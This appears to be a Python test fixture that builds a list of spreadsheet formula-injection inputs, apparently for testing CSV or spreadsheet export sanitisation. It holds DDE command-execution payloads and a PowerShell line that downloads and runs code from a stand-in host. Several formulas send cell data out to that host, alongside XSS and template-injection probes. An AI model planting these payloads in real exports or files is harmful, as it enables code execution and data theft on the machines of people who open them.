"""Texts that a careless sheet would run: formulas, DDE, hidden behind blanks, signs of full width, separators."""

_FORMULAS = (
    "1+1",
    "SUM(1,1)",
    "cmd|' /C calc'!A0",
    "cmd|'/C powershell IEX(wget x.example/s)'!A0",
    'HYPERLINK("http://x.example?leak="&A1,"Bấm vào đây")',
    'WEBSERVICE("http://x.example/"&A1)',
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    'IMPORTDATA("http://x.example/")',
    'IMPORTRANGE("abc","Sheet1!A1")',
    'IMAGE("http://x.example/"&A1)',
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'DDE("cmd";"/C calc";"x")',
    "INDIRECT(A1)",
    "A1",
)
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", "=-", "-+")
_OTHERS = (
    '","=1+1","',
    '"\n=1+1\n"',
    "0;=1+1",
    "'=1+1",
    "''=1+1",
    " =1+1",
    "\u200b=1+1",
    "{=1+1}",
    "=1+1\0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+84 không phải số",
    "%0A=1+1",
    "<script>alert(1)</script>",
    "=<![CDATA[x]]>",
    "_x003D_1+1",
    "{{7*7}}",
    "=" * 40_000,
)
INJECTIONS = (*(sign + formula for sign in _SIGNS for formula in _FORMULAS), *_OTHERS)
